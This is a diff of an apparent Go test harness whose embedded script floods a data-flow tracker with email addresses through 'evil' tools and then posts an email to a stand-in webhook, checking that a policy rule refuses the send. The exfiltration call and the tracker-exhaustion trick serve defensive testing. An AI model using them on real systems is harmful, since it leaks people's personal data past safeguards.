@@ -139,11 +139,14 @@ const emails = []; for (let j = 0; j < (1 << %d); j++) emails.push("user" + j + 
 for (let b = 0; b < %d; b++) await evil["e" + b]({items: emails.filter((_, j) => (j >> b) & 1)});
 await evil.e%d({items: emails}); // the last slot's, with the fill
 // sent: 0 when the post passed, 1 when a rule refused it for the
-// sources past the names, 2 for another error (a number: the output's
-// strings are cut to fit its budget).
+// sources past the names — as of every source, or, when the flow
+// settles the run's waiting results at the check and cannot keep them
+// all (the call's provenance is no longer read for every call: sec42),
+// as of a source whose data it could not keep — 2 for another error
+// (a number: the output's strings are cut to fit its budget).
 let sent = 0;
 try { await http.post_webhook({url: "https://hooks.example/x", payload: {v: emails[1]}}) }
-catch (e) { sent = e.code == "policy_violation" && String(e.message).includes("taken as every source") ? 1 : 2 }
+catch (e) { const m = String(e.message); sent = e.code == "policy_violation" && (m.includes("taken as every source") || m.includes("than the data-flow tracker keeps")) ? 1 : 2 }
 return {sent, emails}`, fill, ops-1, bits, bits, bits, ops-1), "timeout_ms", 60000)
 		grow, used := peakRSS(pid)-before, cpuSeconds(pid)-cpu
 		var res struct {
